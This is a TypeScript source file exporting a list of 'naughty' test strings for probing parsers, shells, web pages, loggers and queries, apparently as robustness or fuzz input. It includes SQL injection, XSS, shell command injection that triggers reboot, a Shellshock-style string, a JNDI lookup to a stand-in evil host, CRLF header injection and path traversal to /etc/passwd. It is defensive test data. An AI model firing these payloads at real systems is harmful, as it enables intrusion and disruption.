/** Strings that mean something to some parser, shell, page, terminal, logger or query, each as latin1. */
export const NAUGHTY: readonly string[] = [
  '', ' ', '\t', '\0', '\r', '\n', '\r\n', '\r\nX-Evil: 1', '\u0007', '\u001b[2J\u001b]0;x\u0007', '\u007f', '\u0080', '\u0085', '\u00ff', '\u00e2\u0080\u00a8', '\u00ef\u00bb\u00bf', '\u00c0\u00ae', '\u00ed\u00a0\u0080',
  '"', '""', '"a', '"a\\', '\\', '\\"', '"k";a=1', '"k";a="', '?1', ':YWJj:', '@1', 'a, b', ',', ';', '=', '%', '%0', '%00', '%0d%0a', '%2e%2e%2f', '%252e', '%u0041', '..', '/..', '/../../etc/passwd', '\\\\host\\share', '//evil.example', 'http://evil.example/', 'CON', '*', '#', '?', '&',
  '__proto__', 'constructor', 'prototype', 'toString', 'null', 'undefined', 'NaN', 'Infinity', 'true', '-1', '0x10', '1e309', '9007199254740993', '18446744073709551616',
  "'; DROP TABLE keys; --", "' OR 1=1 --", '${7*7}', '{{7*7}}', '<%= 7 %>', '<script>alert(1)</script>', '"><img src=x onerror=alert(1)>', 'javascript:alert(1)', '$(reboot)', '`reboot`', '| reboot', '() { :; }; reboot', '${jndi:ldap://evil.example/}', '"},{"msg":"forged"}',
  'chunked', 'close, idempotency-key', 'multipart/form-data; boundary=', 'application/json; charset=\u00ff', 'Basic Og==', 'Bearer ', 'a'.repeat(255), 'a'.repeat(256), 'a'.repeat(9000), '('.repeat(500), '%61'.repeat(500), '/a'.repeat(500),
]
